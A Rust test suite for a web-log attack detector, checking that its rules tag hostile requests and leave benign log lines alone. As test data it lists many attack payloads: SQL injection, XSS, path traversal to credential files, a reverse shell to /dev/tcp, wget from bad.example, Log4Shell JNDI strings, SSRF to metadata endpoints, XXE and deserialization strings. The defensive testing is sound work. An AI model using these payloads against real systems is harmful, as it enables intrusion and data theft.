use proptest::prelude::*;

use super::*;

const BROWSER: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

fn tags(text: &str) -> Vec<&'static str> {
    detect(text).into_iter().map(|rule| rule.tag).collect()
}

/// The tag is among those of a line that shows the request.
fn check(target: &str, tag: &str) {
    let line = access(target, "-", BROWSER);
    assert!(tags(&line).contains(&tag), "{target}: {:?}", detect(&line));
    assert!(suspects(&serde_json::to_string(&line).unwrap()), "{target}");
}

fn check_body(body: &str, tag: &str) {
    let body = serde_json::to_string(body).unwrap();
    let line = format!("level=info msg=request method=POST uri=\"/items\" body={body}");
    assert!(tags(&line).contains(&tag), "{line}: {:?}", detect(&line));
    assert!(suspects(&serde_json::to_string(&line).unwrap()), "{line}");
}

fn check_honest(text: &str) {
    assert_eq!(detect(text), Vec::<&Rule>::new(), "{text}");
}

fn access(target: &str, referer: &str, agent: &str) -> String {
    format!(
        r#"192.0.2.7 - - [03/Feb/2025:08:15:42 +0000] "GET {target} HTTP/1.1" 200 1432 "{referer}" "{agent}""#
    )
}

#[test]
fn every_group_of_rules_compiles() {
    assert!(GROUPS.iter().all(|group| group.compiles()));
}

#[test]
fn every_rule_has_an_id_of_its_own_and_says_why() {
    let mut ids: Vec<_> = rules().iter().map(|rule| rule.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), rules().len());
    assert!(rules().iter().all(|rule| rule.tag.starts_with("attack:") && rule.reason.ends_with('.')));
    assert!(rules().contains(&SCANNER));
}

#[test]
fn severities_are_ordered_and_written_in_lower_case() {
    assert!(Severity::Low < Severity::Medium && Severity::High < Severity::Critical);
    assert_eq!(serde_json::to_string(&Severity::Critical).unwrap(), "\"critical\"");
}

#[test]
fn attacks_in_an_address_are_found() {
    for (target, tag) in [
        ("/item?id=7%27%20or%20%271%27=%271", "attack:sqli"),
        ("/item?id=7'+OR+2=2--+", "attack:sqli"),
        ("/item?id=7%2527%2520or%25202%253D2%2523", "attack:sqli"),
        ("/item?id=7/**/union/**/all/**/select/**/null,null", "attack:sqli"),
        ("/item?id=7+UnIoN+SeLeCt+name,pass+from+staff", "attack:sqli"),
        ("/item?id=7/*!50000union*/+/*!50000select*/+3,4", "attack:sqli"),
        ("/item?id=7;drop+table+orders", "attack:sqli"),
        ("/item?id=7)+and+sleep(9)", "attack:sqli"),
        ("/item?id=7'+and+benchmark(5000000,md5(1))", "attack:sqli"),
        ("/item?id=7';waitfor+delay+'0:0:9", "attack:sqli"),
        ("/item?id=(select+count(*)+from+information_schema.tables)", "attack:sqli"),
        ("/item?id=7+and+extractvalue(1,concat(0x7e,version()))", "attack:sqli"),
        ("/item?sort=1+order+by+9--+", "attack:sqli"),
        ("/item?id=%EF%BC%87+or+5=5", "attack:sqli"),
        ("/item?user[$ne]=1", "attack:sqli"),
        ("/item?id=1;exec+xp_cmdshell+'dir'", "attack:sqli"),
        ("/item?q=<script>alert(7)</script>", "attack:xss"),
        ("/item?q=%3CsCrIpT%20src=//x.example%3E", "attack:xss"),
        ("/item?q=%253Cscript%253E", "attack:xss"),
        ("/item?q=%u003cscript%u003e", "attack:xss"),
        ("/item?q=\\u003cscript\\u003e", "attack:xss"),
        ("/item?q=\\x3cscript\\x3e", "attack:xss"),
        ("/item?q=&lt;script&gt;x", "attack:xss"),
        ("/item?q=&#60;script&#62;", "attack:xss"),
        ("/item?q=&#x3C;script&#x3e;", "attack:xss"),
        ("/item?q=%C0%BCscript%3E", "attack:xss"),
        ("/item?q=%EF%BC%9Cscript%EF%BC%9E", "attack:xss"),
        ("/item?q=%3Cimg+src=x+onerror=run()%3E", "attack:xss"),
        ("/item?q=%22+onmouseover=%22run()", "attack:xss"),
        ("/item?q=%3Csvg/onload=run()%3E", "attack:xss"),
        ("/item?next=javascript:run()", "attack:xss"),
        ("/item?next=java%09script:run()", "attack:xss"),
        ("/item?q=%3Ciframe+src=x%3E", "attack:xss"),
        ("/item?q=document.cookie", "attack:xss"),
        ("/item?q=eval(atob('eA'))", "attack:xss"),
        ("/item?q=data:text/html;base64,PHg", "attack:xss"),
    ] {
        check(target, tag);
    }
}

#[test]
fn attacks_on_files_and_shells_are_found() {
    for (target, tag) in [
        ("/get?file=../../../etc/passwd", "attack:path_traversal"),
        ("/get?file=..%2f..%2fconf.ini", "attack:path_traversal"),
        ("/get?file=%2e%2e%2f%2e%2e%2fx", "attack:path_traversal"),
        ("/get?file=..%252f..%252fx", "attack:path_traversal"),
        ("/get?file=..%c0%af..%c0%afx", "attack:path_traversal"),
        ("/get?file=....//....//x", "attack:path_traversal"),
        ("/get?file=..%5c..%5cboot.ini", "attack:path_traversal"),
        ("/get?file=C:%5CWindows%5Cwin.ini", "attack:path_traversal"),
        ("/get?file=/proc/self/environ", "attack:path_traversal"),
        ("/get?file=report.pdf%00.png", "attack:path_traversal"),
        ("/static/..;/admin", "attack:path_traversal"),
        ("/.git/HEAD", "attack:path_traversal"),
        ("/.env", "attack:path_traversal"),
        ("/app/.env.production", "attack:path_traversal"),
        ("/.aws/credentials", "attack:path_traversal"),
        ("/WEB-INF/web.xml", "attack:path_traversal"),
        ("/show?page=http://bad.example/a.txt?", "attack:rfi"),
        ("/show?include=https://bad.example/a.php", "attack:rfi"),
        ("/show?u=http://203.0.113.4/x", "attack:rfi"),
        ("/run?c=;cat+/var/tmp/x", "attack:command_injection"),
        ("/run?c=%7Cwhoami", "attack:command_injection"),
        ("/run?c=x%26%26wget+http://bad.example/a", "attack:command_injection"),
        ("/run?c=$(id)", "attack:command_injection"),
        ("/run?c=%60uname+-a%60", "attack:command_injection"),
        ("/run?c=;c'a't+/tmp/x", "attack:command_injection"),
        ("/run?c=;cat${IFS}/tmp/x", "attack:command_injection"),
        ("/run?c=/bin/sh+-c+x", "attack:command_injection"),
        ("/run?c=/e[t]c/hosts", "attack:command_injection"),
        ("/run?c=powershell+-enc+AAAA", "attack:command_injection"),
        ("/run?c=cmd.exe+/c+dir", "attack:command_injection"),
        ("/run?c=x;bash+-i+>%26+/dev/tcp/192.0.2.1/99", "attack:command_injection"),
    ] {
        check(target, tag);
    }
}

#[test]
fn attacks_on_code_and_addresses_are_found() {
    for (target, tag) in [
        ("/q?x=${jndi:ldap://bad.example/a}", "attack:log4shell"),
        ("/q?x=$%7Bjndi:dns://bad.example%7D", "attack:log4shell"),
        ("/q?x=${${lower:j}ndi:rmi://bad.example}", "attack:log4shell"),
        ("/q?x=${j${::-n}di:ldap://bad.example}", "attack:log4shell"),
        ("/q?x=${${env:NOPE:-j}ndi:ldap://bad.example}", "attack:log4shell"),
        ("/fetch?url=http://169.254.169.254/latest/api/token", "attack:ssrf"),
        ("/fetch?url=http%3A%2F%2Fmetadata.google.internal/", "attack:ssrf"),
        ("/fetch?url=http://localhost:9000/", "attack:ssrf"),
        ("/fetch?url=http://127.1/", "attack:ssrf"),
        ("/fetch?url=http://[::1]/", "attack:ssrf"),
        ("/fetch?url=http://2130706433/", "attack:ssrf"),
        ("/fetch?url=http://0x7f000001/", "attack:ssrf"),
        ("/fetch?url=http://0177.0.0.1/", "attack:ssrf"),
        ("/fetch?url=file:///srv/x", "attack:ssrf"),
        ("/fetch?url=gopher://cache.example:6379/_x", "attack:ssrf"),
        ("/fetch?url=dict://cache.example:11211/", "attack:ssrf"),
        ("/fetch?url=http://db.prod.svc.cluster.local/", "attack:ssrf"),
        ("/t?n={{8*8}}", "attack:template_injection"),
        ("/t?n=%7B%7Bconfig.items()%7D%7D", "attack:template_injection"),
        ("/t?n=%3C%25=+8*8+%25%3E", "attack:template_injection"),
        ("/t?n=%23%7B8*8%7D", "attack:template_injection"),
        ("/t?n=${T(java.lang.Runtime).getRuntime()}", "attack:java_injection"),
        ("/t?n=%3C?php+echo+1;?%3E", "attack:php_injection"),
        ("/t?n=php://input", "attack:php_injection"),
        ("/t?n=O:4:%22User%22:1:%7Bs:1:%22a%22;i:1;%7D", "attack:php_injection"),
        ("/t?n=base64_decode(x)", "attack:php_injection"),
        ("/t?allow=auto_prepend_file%3Dx", "attack:php_injection"),
        ("/t?class.module.classLoader.x=1", "attack:java_injection"),
        ("/t?n=rO0ABXNyAA", "attack:java_injection"),
        ("/t?__proto__[admin]=1", "attack:code_injection"),
        ("/t?n=require('child_process').exec('x')", "attack:code_injection"),
        ("/t?n=__import__('os').system('x')", "attack:code_injection"),
        ("/t?n=!!python/object/apply:os.system", "attack:code_injection"),
        ("/t?n=x%0d%0aSet-Cookie:+sid=1", "attack:protocol"),
        ("/t?n=x%0d%0a%0d%0aGET+/admin+HTTP/1.1", "attack:protocol"),
        ("/t%0d%0aLocation:x", "attack:protocol"),
        ("/t?n=%3Cscript%3Edocument.cookie=%22sid=1%22%3C/script%3E", "attack:session_fixation"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "attack:scanner"),
        ("/actuator/heapdump", "attack:scanner"),
    ] {
        check(target, tag);
    }
}

#[test]
fn attacks_in_a_body_are_found() {
    for (body, tag) in [
        ("name=x&pass=' or ''='", "attack:sqli"),
        (r#"{"id": "7 union select 1,2"}"#, "attack:sqli"),
        (r#"{"name": {"$ne": null}}"#, "attack:sqli"),
        (r#"{"q": "\u003cscript>x"}"#, "attack:xss"),
        ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>", "attack:xxe"),
        ("tpl={{self.__class__}}", "attack:template_injection"),
        (r#"{"constructor": {"prototype": {"a": 1}}}"#, "attack:code_injection"),
        (
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\nx",
            "attack:code_injection",
        ),
        ("host=example.com;nslookup+bad.example", "attack:command_injection"),
        ("() { :; }; echo x", "attack:command_injection"),
    ] {
        check_body(body, tag);
    }
}

#[test]
fn attacks_are_found_in_headers_and_in_lines_of_other_forms() {
    for (line, tag) in [
        (access("/", "-", "sqlmap/1.8 (https://sqlmap.org)"), "attack:scanner"),
        (access("/", "-", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"), "attack:scanner"),
        (access("/", "-", "${jndi:ldap://bad.example/x}"), "attack:log4shell"),
        (access("/", "https://a.example/?q=<script>", BROWSER), "attack:xss"),
        ("GET /a?id=1%27%20or%201%3D1 200 3ms".to_owned(), "attack:sqli"),
        (
            r#"{"method":"GET","url":"/a?f=../../etc/shadow","status":404}"#.to_owned(),
            "attack:path_traversal",
        ),
        ("method=GET path=/a query=\"q=<script>x\" status=200".to_owned(), "attack:xss"),
        ("/a?id=1%20union%20select%202".to_owned(), "attack:sqli"),
        ("nikto/2.5.0".to_owned(), "attack:scanner"),
        ("user_agent=\"Nuclei - Open-source project\" status=404".to_owned(), "attack:scanner"),
        ("login failed for user ' or '1'='1".to_owned(), "attack:sqli"),
        ("unknown user ${jndi:ldap://bad.example/x}".to_owned(), "attack:log4shell"),
        ("cannot open ../../../../etc/passwd".to_owned(), "attack:path_traversal"),
    ] {
        assert!(tags(&line).contains(&tag), "{line}: {:?}", detect(&line));
    }
}

#[test]
fn honest_lines_do_not_alarm() {
    for text in [
        "",
        "select a plan from the list",
        "union of sets A and B took 3 ms",
        "SELECT * FROM users WHERE id = $1",
        "SELECT u.id, u.name FROM users u WHERE u.name = 'bob' OR u.id = 7 ORDER BY 1",
        "Executing: INSERT INTO orders (id, total) VALUES (?, ?); -- 2 rows",
        "sql=\"SELECT id FROM a UNION SELECT id FROM b\" duration=4ms",
        "DELETE FROM sessions WHERE expires_at < now()",
        "+ docker run --rm -v /etc/passwd:/etc/passwd:ro alpine sh -c 'cat /etc/hosts'",
        "Run cd web && npm ci && npm run build | tee build.log",
        "$ curl -fsSL https://sh.rustup.rs | sh -s -- -y",
        "exec: \"/bin/sh\", \"-c\", \"echo $HOME\"",
        "rendered <div class=\"card\"><script src=\"/app.js\"></script></div>",
        "template body: <p onclick=\"go()\">Hello {{ user.name }}</p>",
        "java.lang.NullPointerException: x at org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:166)",
        "at Object.<anonymous> (/srv/app/node_modules/x/index.js:10:3)",
        "Traceback (most recent call last): File \"/usr/lib/python3/x.py\", line 3, in <module> os.system('ls')",
        "{\"level\":\"info\",\"msg\":\"it's done; all 'ok' -- see docs\",\"cost\":\"$5\"}",
        "can't open file 'a.txt': it doesn't exist",
        "loading ../config/app.yaml",
        "import ../../lib/util.js resolved",
        "config path=/etc/nginx/nginx.conf loaded",
        "connecting to http://localhost:8080/health",
        "url=http://127.0.0.1:9090/metrics scrape ok",
        "nmap scan finished on host a",
        "cpu 85% mem 40% disk 99%",
        "progress: 100%20done",
        "price: ${amount} missing in template mail",
        "set x = y or z = w",
        "[INFO] 3 <= 4 and 5 >= 2 or 1 = 1",
    ] {
        check_honest(text);
    }
}

#[test]
fn honest_requests_do_not_alarm() {
    for target in [
        "/",
        "/search?q=select+a+plan+from+the+list",
        "/search?q=union+of+sets",
        "/search?q=how+to+order+by+phone",
        "/search?q=rock+%27n%27+roll",
        "/search?q=O%27Brien+and+sons",
        "/search?q=cats+and+dogs;+more+cats",
        "/search?q=5+%3C+6",
        "/search?q=drop+me+a+line",
        "/search?q=what+is+a+script%3F",
        "/search?q=caf%C3%A9+%C3%BCber",
        "/search?q=let+me+sleep+(8+hours)",
        "/search?q=C%2B%2B+and+C%23",
        "/search?q=the+%22where%22+clause",
        "/list?filter[name]=bob&filter[age]=7&page[size]=10",
        "/list?sort=-created&fields=id,name",
        "/list?from=2025-01-01T00:00:00%2B01:00&to=now",
        "/login?next=%2Fhome%3Ftab%3D1%26x%3D2",
        "/login?redirect_uri=http://localhost:3000/callback&state=x",
        "/go?url=https%3A%2F%2Fwww.example.com%2Fa%2Fb%3Fc%3Dd",
        "/share?u=https://example.com/article/1",
        "/img/a..b/logo.png",
        "/.well-known/openid-configuration",
        "/.well-known/security.txt",
        "/assets/app.min.js?v=1.2.3",
        "/a?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln--nature_",
        "/a?price=10$&unit=%25",
        "/a?email=jane.doe%2Bx@example.com",
        "/a?json=%7B%22a%22:1,%22b%22:[1,2]%7D",
        "/a?name=Select&title=Union%20Jack",
    ] {
        check_honest(&access(target, "https://www.example.com/start?ref=1", BROWSER));
    }
    for agent in [
        "curl/8.5.0",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko/2008052906 Firefox/3.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "kube-probe/1.29",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
    ] {
        check_honest(&access("/", "-", agent));
        assert!(!agents::names_a_scanner(agent.as_bytes()), "{agent}");
    }
    for body in [
        "name=Jane&comment=I'd+like+to+select+one;+thanks",
        r#"{"title":"Union of sets","text":"It's \"quoted\" -- really","n":[1,2]}"#,
        "<?xml version=\"1.0\"?><order><id>7</id><note>a &amp; b</note></order>",
        "text=First line\nSecond line: with a colon\nThird",
        "comment=<p>Hello <b>world</b> <a href=\"https://example.com\">link</a></p>",
    ] {
        check_honest(&format!(
            "level=info method=POST uri=\"/items\" body={}",
            serde_json::to_string(body).unwrap()
        ));
    }
}

#[test]
fn scanners_are_known_by_their_names_and_by_what_they_say_they_do() {
    for agent in [
        "sqlmap/1.7",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        "WPScan v3",
        "Acme-VulnScan/2",
        "acme security scan",
    ] {
        assert!(agents::names_a_scanner(agent.as_bytes()), "{agent}");
    }
    for agent in ["", "unmapped", "hydration/1", "scanner-pro barcode/2", BROWSER] {
        assert!(!agents::names_a_scanner(agent.as_bytes()), "{agent}");
    }
}

#[test]
fn of_each_tag_the_worst_rule_is_told_once() {
    let found = detect(&access("/a?id=7'+or+2=2--+&x=1;drop+table+y", "-", BROWSER));
    let sql: Vec<_> = found.iter().filter(|rule| rule.tag == "attack:sqli").collect();
    assert_eq!(sql.len(), 1);
    assert_eq!(sql[0].severity, Severity::Critical);
}

#[test]
fn a_long_text_is_looked_at_in_its_first_and_its_last_half() {
    let attack = access("/a?q=<script>x", "-", BROWSER);
    let padding = "x".repeat(MAX_BYTES);
    assert!(!detect(&format!("{attack}{padding}")).is_empty());
    assert!(!detect(&format!("{padding}\n{attack}")).is_empty());
    assert!(detect(&format!("{padding} {attack} {padding}")).is_empty());
}

#[test]
fn decoding_never_makes_more_than_twice_the_text() {
    for text in
        ["%25".repeat(99), "/**/".repeat(99), "&amp;".repeat(99), "\\u003c".repeat(99), "/*!x*/".repeat(99)]
    {
        assert!(decode::plain(text.as_bytes()).len() <= 2 * text.len() + 2, "{text}");
    }
}

proptest! {
    #[test]
    fn nothing_panics_on_any_text(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let text = String::from_utf8_lossy(&bytes);
        detect(&text);
        agents::names_a_scanner(text.as_bytes());
        auth::failed_login(&text);
        look(&bytes, &mut Vec::new());
    }

    #[test]
    fn what_is_found_in_a_text_is_suspected_in_its_json(
        pieces in proptest::collection::vec(prop_oneof![
            Just("\"GET /a?b="), Just(" HTTP/1.1\" 200 1 \"-\" \""), Just("' or 1=1--"), Just("<script>"), Just("\""),
            Just("../"), Just("\\"), Just("${jndi:"), Just("}"), Just("%27"), Just("%3c"), Just(" "), Just("+"), Just("&"),
            Just("method=POST body=\""), Just("union select"), Just(";cat /"), Just("(\""), Just("\n"), Just("/etc/passwd"),
            Just("() {"), Just("= \" "), Just("()"), Just("{"), Just("=\""), Just("as\" from"), Just("~"), Just("sqlmap"),
        ], 0..12),
        escapes_all in any::<bool>(),
    ) {
        let text: String = pieces.concat();
        let json = if escapes_all {
            let units = text.chars().fold(String::new(), |json, c| format!("{json}\\u{:04x}", u32::from(c)));
            format!("{{\"message\":\"{units}\"}}")
        } else {
            serde_json::json!({ "message": text }).to_string().replace('/', "\\/")
        };
        prop_assert!(suspects(&json) || detect(&text).is_empty(), "{}", text);
    }
}
